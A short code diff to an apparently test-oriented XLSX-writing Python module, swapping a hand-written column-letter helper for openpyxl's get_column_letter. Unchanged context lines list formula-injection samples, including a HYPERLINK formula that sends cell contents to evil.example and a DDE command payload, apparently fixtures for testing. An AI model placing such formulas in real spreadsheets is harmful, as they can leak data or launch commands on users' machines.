@@ -15,6 +15,8 @@ from collections.abc import Sequence
 from pathlib import Path
 from xml.sax.saxutils import escape
 
+from openpyxl.utils import get_column_letter
+
 CONTENT_TYPES = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
 <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
 <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
@@ -40,17 +42,8 @@ FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C cal
             "-2+3", "@SUM(1,1)", "=1/0"]
 
 
-def _column(index: int) -> str:
-    name = ""
-    index += 1
-    while index:
-        index, rest = divmod(index - 1, 26)
-        name = chr(65 + rest) + name
-    return name
-
-
 def _cell(row: int, col: int, value: object) -> str:
-    ref = f"{_column(col)}{row}"
+    ref = f"{get_column_letter(1 + col)}{row}"
     if value is None:
         return ""
     if isinstance(value, bool):
